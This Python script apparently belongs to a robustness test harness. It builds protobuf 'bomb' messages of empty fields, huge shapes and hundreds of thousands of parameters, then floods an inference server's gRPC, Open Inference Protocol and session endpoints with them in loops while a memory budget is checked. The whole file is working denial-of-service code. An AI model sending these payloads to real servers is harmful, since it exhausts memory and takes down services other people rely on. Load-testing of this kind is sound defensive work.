"""Headers of nearly 4 MiB that protobuf makes 60 times as large: empty tensors, empty attributes, empty strings and
numbers of a byte; several at a time, in every method that parses. In sessions also empty commands, empty entries that
no command names, and groups inside each other that nobody knows. In the Open Inference Protocol also parameters of
many names, of the request and of a tensor.
"""

import http2
import wire
from attack import Attack, Target, run

MOST = (4 << 20) - 200
BOMBS = [
    field * (MOST // len(field))
    for field in (
        wire.field(2, b""),  # inputs
        wire.field(3, b""),  # attributes
        wire.field(2, wire.field(10, b"")),  # inputs with views
        wire.field(2, wire.field(3, b"\1\1\1\1\1\1\1\1")),  # shapes
    )
]
PARAMETERS = b"".join(wire.field(4, wire.field(1, f"{number:x}")) for number in range(200_000))
# Inputs, inputs with contents, shapes, parameters.
INFER_BOMBS = [
    wire.field(1, "Relu") + bomb
    for bomb in (
        wire.field(5, b"") * 500_000,
        wire.field(5, wire.field(5, b"")) * 400_000,
        wire.field(5, wire.field(3, b"\1" * 1_900_000)),
        PARAMETERS,
        wire.field(5, PARAMETERS),
    )
]
SESSION_BOMBS = [
    wire.session_request([wire.command(wire.SET_TENSORS, wire.field(2, wire.field(2, b"")) * (MOST // 4), 1)]),
    wire.field(1, b"") * (MOST // 2),  # commands
    wire.session_request([wire.command(wire.FREE, wire.ids(1), 1)]) + wire.field(15, b"") * (MOST // 2),
    wire.session_request([wire.command(wire.FREE, wire.groups(MOST // 4), 1)]),
    wire.groups(MOST // 4),
]


def bombs(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in BOMBS:
            calls = [
                connection.start(method, wire.field(1, bomb))
                for method in (
                    "Execute",
                    "ExecuteBatch",
                    "GetWorkspaceSize",
                    "Execute",
                    "GetWorkspaceSize",
                    "ListOperators",
                )
            ]
            connection.poll_until(lambda: all(call.ended for call in calls), 5.0)
            for call in calls:
                connection.forget(call)


def in_other_protocols(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        calls = [connection.start(http2.INFERENCE + "ModelInfer", bomb) for bomb in INFER_BOMBS]
        connection.poll_until(lambda: all(call.ended for call in calls), 5.0)
        for call in calls:
            connection.forget(call)


def in_sessions(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in SESSION_BOMBS:
            call = connection.begin(http2.SESSION)
            connection.message(call, bomb)
            connection.await_end(call, 1.0)
            connection.forget(call)


if __name__ == "__main__":
    # Four threads parse at one time, 240 MiB each at worst.
    run(Attack([bombs, bombs, in_sessions, in_other_protocols], rss_mib=1200))
